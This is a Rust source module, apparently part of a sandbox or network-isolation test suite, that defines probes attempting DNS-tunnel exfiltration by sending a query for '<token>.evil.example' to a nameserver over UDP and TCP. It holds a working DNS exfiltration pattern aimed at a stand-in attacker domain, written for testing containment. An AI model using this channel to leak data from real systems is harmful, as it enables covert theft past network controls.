//! Names as a channel: a question for a name that the attacker's server will see.

use prxy_common::Role;

use super::call::{at, connect, open, open_stream, send_to};
use super::{Aim, Failure, INET, Technique};
use crate::resolver::dns::{Kind, Question};
use crate::sys::attempt;
use crate::verify::ground::NAMESERVER;

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("dns-udp", "DNS question, foreign name, UDP", "60", INET, dns_udp),
    Technique::wire("dns-tcp", "DNS question, foreign name, TCP", "60 62", INET, dns_tcp)
        .open_to(Role::Resolver, ITS_TASK),
];

fn dns_udp(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    send_to(&fd, &foreign(aim)?, 0, NAMESERVER, 53)
}

fn dns_tcp(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(NAMESERVER, 0)?;
    connect(aim, &fd, NAMESERVER, 53)?;
    let question = foreign(aim)?;
    let mut message = u16::try_from(question.len()).unwrap_or(0).to_be_bytes().to_vec();
    message.extend(question);
    attempt::sendto(&fd, &message, 0, None).map_err(at("send")).map(drop)
}

fn foreign(aim: &Aim) -> Result<Vec<u8>, Failure> {
    // Without a secret the name keeps its letters, by which it is found on the wire.
    Question::new(&format!("{}.evil.example", aim.token), Kind::A, [0; 34])
        .map(|question| question.bytes())
        .map_err(|error| Failure { at: "question", error: std::io::Error::other(error) })
}

const ITS_TASK: &str = "it may ask the nameserver, and the kernel does not read the question";
